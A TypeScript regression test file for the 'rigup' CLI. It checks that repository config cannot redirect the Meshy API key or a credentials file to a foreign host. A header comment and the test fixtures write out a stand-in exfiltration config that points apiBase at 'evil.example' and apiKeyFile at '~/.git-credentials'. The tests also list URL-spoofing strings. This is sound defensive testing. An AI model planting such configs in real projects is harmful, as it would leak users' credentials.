/**
 * A cloned repository's config must not choose where the API key goes or which
 * file is sent as the key: `{"rigup": {"apiBase": "http://evil.example",
 * "apiKeyFile": "~/.git-credentials"}}` in package.json once made
 * `rigup actions --refresh` send the credentials file's first line to that host.
 *
 * The CLI runs in-process with undici's `request` wrapped: every request rigup
 * makes is recorded, and one to a non-loopback host is blocked before it leaves,
 * so even a regression never sends traffic off this machine.
 */
import { join } from "node:path";
import { beforeEach, describe, expect, it, vi } from "vitest";
import { apiBaseProblem, isLoopback, keyDestinationNotice } from "../../src/config/api-origin.js";
import { startEmulator, type Emulator } from "../../src/emulator/index.js";
import { runCli } from "../helpers/cli.js";
import { tempProject, type TempProject } from "../helpers/project.js";

const requested = vi.hoisted(() => [] as string[]);
vi.mock("undici", async (importOriginal) => {
  const undici = await importOriginal<typeof import("undici")>();
  const request: typeof undici.request = (url, options) => {
    requested.push(String(url));
    if (!/^http:\/\/127\.0\.0\.1:\d+\//.test(String(url))) throw new Error(`test blocked a request to ${String(url)}`);
    return undici.request(url, options);
  };
  return { ...undici, request };
});

const SECRET = "https://me:ghp_NotForRigup0123456789@github.com";
const KEY = "msy_EnvKey_0123456789abcdef";

let project: TempProject;
let credentials: string;
beforeEach(async () => {
  requested.length = 0;
  project = await tempProject({ "characters.yaml": "version: 1\ncharacters: {}\n" });
  credentials = join((await tempProject({ ".git-credentials": `${SECRET}\n` })).dir, ".git-credentials");
});

const actions = (env: Record<string, string> = {}, ...args: string[]) =>
  runCli(["actions", "--refresh", ...args], { cwd: project.dir, env: { MESHY_API_KEY: "", MESHY_API_BASE: "", ...env } });

function expectNothingLeaked(run: { stdout: string; stderr: string }): void {
  expect(requested).toEqual([]);
  expect(run.stdout + run.stderr).not.toContain(SECRET);
  expect(run.stdout + run.stderr).not.toContain(KEY);
}

describe("a committed config", () => {
  it("cannot name the key file or a foreign API base: exit 3 naming file and fields, nothing read out or sent", async () => {
    await project.write(
      "package.json",
      JSON.stringify({ name: "game", rigup: { apiBase: "http://evil.example", apiKeyFile: credentials } }, null, 2),
    );
    const run = await actions();
    expect(run.code, run.stderr).toBe(3);
    expect(run.stderr).toMatch(/on package\.json line \d+, column \d+, in apiBase:/);
    expect(run.stderr).toMatch(/on package\.json line \d+, column \d+, in apiKeyFile:/);
    expectNothingLeaked(run);
  });

  it.each([
    ["plain http", "http://evil.example"],
    ["https elsewhere", "https://meshy-proxy.example.com/openapi"],
    ["Meshy's name as user info", "https://api.meshy.ai@evil.example"],
  ])("cannot send MESHY_API_KEY to another host (%s)", async (_case, apiBase) => {
    await project.write(".riguprc.yaml", `concurrency: 4\napiBase: ${apiBase}\n`);
    await project.write("package.json", '{ "name": "game" }\n');
    const run = await actions({ MESHY_API_KEY: KEY });
    expect(run.code, run.stderr).toBe(3);
    expect(run.stderr).toContain("on .riguprc.yaml line 2, column 1, in apiBase:");
    expectNothingLeaked(run);
  });

  it("says where the key goes once per command, however many parts of it send the key", async () => {
    const emulator: Emulator = await startEmulator({ speed: "instant", rateLimit: 0 });
    try {
      await project.write("characters.yaml", "version: 1\ncharacters:\n  hero: { model: models/hero.glb, actions: [0] }\n");
      await project.model("models/hero.glb");
      // The build fetches the action library (no cache yet) and then builds: two users of the key, one notice.
      const run = await runCli(["build", "--yes"], {
        cwd: project.dir,
        env: { MESHY_API_KEY: emulator.apiKey, MESHY_API_BASE: emulator.url },
      });
      expect(run.code, run.stderr).toBe(0);
      expect(run.stderr.split(`Sending the Meshy API key to ${emulator.url}`).length - 1).toBe(1);
      expect(requested.filter((u) => u.includes("/animations/library"))).toHaveLength(1);
    } finally {
      await emulator.close();
    }
  });

  it("may point at a loopback emulator, and rigup says where the key goes", async () => {
    const emulator: Emulator = await startEmulator({ speed: "instant", rateLimit: 0 });
    try {
      await project.write("package.json", JSON.stringify({ name: "game", rigup: { apiBase: emulator.url } }));
      const run = await actions({ MESHY_API_KEY: emulator.apiKey });
      expect(run.code, run.stderr).toBe(0);
      expect(run.stderr).toContain(`Sending the Meshy API key to ${emulator.url} (not https://api.meshy.ai).`);
      expect(requested).toEqual([`${emulator.url}/openapi/v2/animations/library`]);
    } finally {
      await emulator.close();
    }
  });
});

describe("the user", () => {
  it.each([
    ["MESHY_API_BASE", { MESHY_API_BASE: "http://10.1.2.3:8080" }, []],
    ["--api-base", {}, ["--api-base", "http://meshy-proxy.example.com"]],
  ])("may not send the key over plain http to a non-loopback host (%s)", async (source, env, args) => {
    await project.write("package.json", '{ "name": "game" }\n');
    const run = await actions({ MESHY_API_KEY: KEY, ...env }, ...args);
    expect(run.code, run.stderr).toBe(3);
    expect(run.stderr).toContain(source);
    expect(run.stderr).toMatch(/plain http/);
    expectNothingLeaked(run);
  });
});

describe("the origin rule", () => {
  it.each([
    ["https://api.meshy.ai", "config", true],
    ["https://API.meshy.ai:443/openapi", "config", true],
    ["http://127.0.0.1:8787", "config", true],
    ["http://127.9.9.9:1", "config", true],
    ["http://0x7f.1:8787", "config", true], // URL normalises it to 127.0.0.1
    ["http://localhost:8787", "config", true],
    ["http://[::1]:8787", "config", true],
    ["http://api.meshy.ai", "config", false],
    ["http://api.meshy.ai", "user", false],
    ["https://api.meshy.ai.evil.example", "config", false],
    ["https://api.meshy.ai@evil.example", "config", false],
    ["http://127.0.0.1.evil.example", "config", false],
    ["http://localhost.evil.example", "config", false],
    ["http://[::ffff:a00:1]", "user", false],
    ["http://10.0.0.1", "user", false],
    ["https://meshy-proxy.example.com", "config", false],
    ["https://meshy-proxy.example.com", "user", true],
  ] as const)("%s from %s: allowed %s", (apiBase, source, allowed) => {
    expect(apiBaseProblem(apiBase, source) === undefined).toBe(allowed);
  });

  it("knows loopback and announces every destination but Meshy's by origin only", () => {
    expect(isLoopback(new URL("http://127.0.0.1"))).toBe(true);
    expect(isLoopback(new URL("http://128.0.0.1"))).toBe(false);
    expect(keyDestinationNotice("https://api.meshy.ai/openapi")).toBeUndefined();
    expect(keyDestinationNotice("https://proxy.example.com/t/SECRETPATH")).toBe(
      "Sending the Meshy API key to https://proxy.example.com (not https://api.meshy.ai).",
    );
  });
});
